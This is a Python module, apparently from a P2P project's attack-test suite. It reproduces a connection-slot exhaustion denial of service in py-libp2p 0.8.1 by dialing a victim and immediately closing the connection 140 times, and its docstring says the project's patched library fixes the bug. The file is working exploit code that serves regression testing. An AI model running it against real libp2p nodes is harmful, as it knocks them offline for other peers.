"""Connect, disconnect, repeat, from one identity (issue 16, item 4).

py-libp2p 0.8.1's swarm held each inbound connection's slot until the swarm stopped: after
max_connections - min_connections (124 with mesh/host.py's limits) such cycles the victim refused
every new inbound connection until it restarted. The patched swarm frees the slot when the
connection ends (docs/library-patches.md).
"""

from __future__ import annotations

import multiaddr
import trio
from libp2p.peer.id import ID

from garage_p2p.daemon import Peer

from . import Target

CYCLE_TIMEOUT = 5.0


async def attack(attacker: Peer, victim: Target, *, cycles: int = 140) -> dict[str, int | float | str]:
    """``cycles`` fresh connections to the victim, each closed as soon as it is up.

    Each is a new dial (not ``Mesh.connect``, which reuses a live connection), and its close runs
    in the background: the library's close lingers ~0.2 s, which would only slow the churn down.
    """
    network = attacker.mesh.host.get_network()
    peer = ID.from_base58(victim.peer_id)
    addr = multiaddr.Multiaddr(victim.addrs[0].split("/p2p/")[0])
    connected = refused = 0
    async with trio.open_nursery() as closing:
        for _ in range(cycles):
            with trio.move_on_after(CYCLE_TIMEOUT):
                try:
                    conn = await network.dial_addr(addr, peer)
                except Exception:  # the victim hung up: what an unpatched victim does after 124
                    refused += 1
                    continue
                connected += 1
                closing.start_soon(_close, conn)
    return {"cycles": cycles, "connected": connected, "refused": refused}


async def _close(conn) -> None:
    with trio.move_on_after(CYCLE_TIMEOUT):
        try:
            await conn.close()
        except Exception:  # already closing from the victim's side
            pass
